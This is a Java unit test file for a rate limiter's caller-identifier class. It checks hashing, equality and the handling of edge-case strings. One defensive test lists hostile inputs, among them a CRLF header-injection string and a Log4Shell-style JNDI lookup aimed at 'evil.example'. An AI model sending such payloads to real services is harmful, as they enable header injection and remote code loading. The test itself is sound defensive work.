/*
 * Copyright 2026 The Breakwater Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.breakwater.ratelimit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.breakwater.caller.IpAddress;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

final class CallerIdTest {
    private static final List<String> VALUES = List.of(
            "",
            "a",
            "a\u0000",
            "\u0000a",
            "alice",
            "Alice",
            "123456789012345",
            "1234567890123456",
            "123456789012345\u0000",
            "\u00e9",
            "\ud800",
            "\udc00",
            "?",
            "a".repeat(100_000),
            "a".repeat(99_999));

    @Test
    void different_values_and_keys_are_different_callers() {
        Set<CallerId> ids = new HashSet<>();
        Set<String> texts = new HashSet<>();
        for (CallerKey key : List.of(CallerKey.USER, CallerKey.API_KEY, CallerKey.header("X-Tenant"))) {
            for (String value : VALUES) {
                ids.add(CallerId.of(key, value));
                texts.add(CallerId.of(key, value).text());
            }
            ids.add(CallerId.absent(key));
        }

        assertThat(ids).hasSize(3 * (VALUES.size() + 1));
        assertThat(texts).hasSize(3 * VALUES.size());
    }

    @Test
    void the_same_value_is_the_same_caller() {
        for (String value : VALUES) {
            CallerId one = CallerId.of(CallerKey.USER, value);
            CallerId other = CallerId.of(CallerKey.of("USER"), new String(value));

            assertThat(one).isEqualTo(other).hasSameHashCodeAs(other);
            assertThat(one.text()).isEqualTo(other.text());
        }
    }

    @Test
    void its_text_is_short_and_never_shows_a_value() {
        for (String value : VALUES) {
            assertThat(CallerId.of(CallerKey.API_KEY, value).text()).matches("api-key#[0-9a-f]{32}");
        }
        assertThat(CallerId.of(CallerKey.API_KEY, "sesame").toString()).doesNotContain("sesame");
    }

    @Test
    void an_address_is_shown_as_it_is() {
        assertThat(CallerId.ofAddress(IpAddress.parse("192.0.2.7")).text()).isEqualTo("ip=192.0.2.7");
        assertThat(CallerId.ofAddress(null)).isEqualTo(CallerId.absent(CallerKey.IP));
    }

    @Test
    void hostile_values_are_as_small_as_any_other_and_all_different() {
        List<String> hostile = List.of(
                "\u0000".repeat(16),
                "\u0000".repeat(17),
                "\ud800".repeat(16),
                "\udc00".repeat(16),
                "\ud800\udc00".repeat(8),
                "\ufffd".repeat(16),
                "?".repeat(16),
                "a".repeat(1 << 20),
                "a".repeat((1 << 20) - 1) + "\u0000",
                "\u0000" + "a".repeat((1 << 20) - 1),
                "\r\nX-Evil: 1\r\n\r\n",
                "${jndi:ldap://evil.example}",
                "\u202e".repeat(20),
                "e\u0301",
                "\u00e9");
        Set<CallerId> ids = new HashSet<>();
        for (String value : hostile) {
            CallerId id = CallerId.of(CallerKey.API_KEY, value);
            ids.add(id);
            assertThat(id.text()).matches("api-key#[0-9a-f]{32}");
            assertThat(id).isEqualTo(CallerId.of(CallerKey.API_KEY, new String(value)));
        }

        assertThat(ids).hasSize(hostile.size());
    }

    @Test
    void no_value_is_the_caller_without_one() {
        Set<CallerId> ids = new HashSet<>();
        for (char c = 0; c < 512; c++) {
            for (int length = 0; length < 20; length++) {
                ids.add(CallerId.of(CallerKey.USER, String.valueOf(c).repeat(length)));
            }
        }

        assertThat(ids).hasSize(512 * 19 + 1).doesNotContain(CallerId.absent(CallerKey.USER));
    }
}
